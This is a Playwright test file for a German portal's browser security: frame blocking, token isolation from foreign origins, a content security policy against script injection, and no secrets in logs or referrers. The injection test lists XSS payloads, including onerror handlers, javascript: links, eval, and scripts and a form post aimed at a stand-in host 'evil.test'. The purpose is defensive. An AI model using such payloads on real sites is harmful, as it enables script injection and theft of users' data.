import { SEED_PASSWORD } from '../../src/sandbox/seed.ts';
import { openForeignPage } from '../support/foreign-page.ts';
import { expect, test } from '../support/portal.ts';
import {
  MAX_MUSTER,
  openAddress,
  openWithSession,
  readStorages,
  signIn,
} from '../support/visit.ts';

const foreignPage = openForeignPage();

test('no page is shown in a foreign frame (S4.1)', async ({ page, portal, problems }) => {
  for (const path of ['/', '/agb-akzeptieren', '/kontoeinstellungen', '/gibt-es-nicht']) {
    await page.goto(foreignPage.origin);
    const navigationEnd = page.waitForEvent('framenavigated');
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, portal.origin + path);
    await navigationEnd;
    const text = await page
      .frames()[1]
      ?.evaluate(() => document.body?.innerText ?? '')
      .catch(() => '');
    expect(page.frames(), path).toHaveLength(2);
    expect(text, path).not.toMatch(/Konto|Seite nicht gefunden|AGB/);
  }
  problems.length = 0;
});

test('a foreign page cannot read a token (S5.6)', async ({ page, portal, problems }) => {
  await page.goto(foreignPage.origin);
  for (const path of ['/auth/token', '/csrf-token', '/auth/userinfo']) {
    const outcome = await page.evaluate(
      (address) =>
        fetch(address, { credentials: 'include' }).then(
          () => 'read',
          () => 'refused',
        ),
      portal.origin + path,
    );
    expect(outcome, path).toBe('refused');
  }
  problems.length = 0;
});

test('an injected script does not run (S3.3)', async ({ page, problems }) => {
  await openAddress(page, '/registrierung-gesendet');
  const result = await page.evaluate(async () => {
    const pageWindow = window as unknown as Record<string, unknown>;
    const append = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const attempts: Record<string, () => unknown> = {
      inline: () => {
        const script = document.createElement('script');
        script.text = 'window.__ran = "inline"';
        document.body.append(script);
      },
      foreign: () => append('script', { src: 'https://evil.test/x.js' }),
      data: () => append('script', { src: 'data:text/javascript,window.__ran="data"' }),
      module: () => append('script', { type: 'module', src: 'https://evil.test/x.mjs' }),
      handler: () => {
        document.body.innerHTML += '<img src="x" onerror="window.__ran = \'handler\'">';
      },
      attribute: () => {
        document.body.setAttribute('onclick', 'window.__ran = "attribute"');
        document.body.click();
      },
      frame: () => append('iframe', { srcdoc: '<script>parent.__ran = "frame"</script>' }),
      link: () => append('a', { href: 'javascript:window.__ran="link"' }).click(),
      base: () => append('base', { href: 'https://evil.test/' }),
      object: () => append('object', { data: 'https://evil.test/x.swf' }),
      form: () =>
        (
          append('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement
        ).submit(),
      evaluated: () => Reflect.get(window, 'eval')('window.__ran = "evaluated"'),
      constructed: () => new Function('window.__ran = "constructed"')(),
      timer: () => setTimeout('window.__ran = "timer"' as unknown as () => void),
    };
    // The attempts run in a task of the page, because code of a test may bypass the policy.
    const { port1, port2 } = new MessageChannel();
    const attemptsEnd = new Promise<void>((resolve) => {
      port1.onmessage = () => {
        for (const attempt of Object.values(attempts)) {
          try {
            attempt();
          } catch {
            // The policy or Trusted Types block the attempt.
          }
        }
        resolve();
      };
    });
    port2.postMessage('go');
    await attemptsEnd;
    // Some attempts take effect only in a later frame.
    for (let frame = 0; frame < 3; frame += 1)
      await new Promise((resolve) => requestAnimationFrame(resolve));
    return { ran: pageWindow['__ran'], base: document.baseURI, path: location.pathname };
  });
  expect(result.ran).toBeUndefined();
  expect(result.base).not.toContain('evil.test');
  expect(result.path).toBe('/registrierung-gesendet');
  expect(problems.filter((problem) => problem.startsWith('foreign request'))).toEqual([]);
  problems.length = 0;
});

test('console, addresses and referrers contain no secrets (S11, S5.1, S5.2)', async ({
  page,
  portal,
}) => {
  const output: string[] = [];
  const apiPattern = new RegExp(
    `^${portal.origin}/(auth|account|csa|ur|library|ecom-proxy|csrf-token)\\b`,
  );
  page.on('console', (message) => output.push(message.text()));
  page.on('request', (request) => {
    const { referer = '', ...headers } = request.headers();
    output.push(request.url(), referer);
    // Tokens may be only in headers of calls to the portal’s API.
    if (!apiPattern.test(request.url()) || request.isNavigationRequest())
      output.push(headers['x-token'] ?? '', headers['x-csrf-token'] ?? '');
  });
  await openAddress(page, '/kontakt');
  await signIn(page, MAX_MUSTER);
  const secrets = new Set<string>([SEED_PASSWORD]);
  for (const path of [
    '/',
    '/kontoeinstellungen',
    '/unterbenutzer-anlegen',
    '/passwort-aendern',
    '/kontakt/abo/kuendigung',
  ]) {
    await openWithSession(page, path, 'personal');
    const storedItems = await readStorages(page);
    for (const key of ['dev_token', 'csrf-token']) secrets.add(storedItems[key] ?? '');
    output.push(await page.evaluate(() => `${document.title} ${JSON.stringify(history.state)}`));
  }
  // The three secrets are the password, the CSRF token and the x-token.
  expect(secrets.size).toBeGreaterThanOrEqual(3);
  expect(output.length).toBeGreaterThan(50);
  const outputText = output.map((text) => decodeURIComponent(text)).join('\n');
  for (const secret of secrets) expect(outputText).not.toContain(secret);
  expect(outputText).not.toMatch(/max\.muster|Muster/);
});
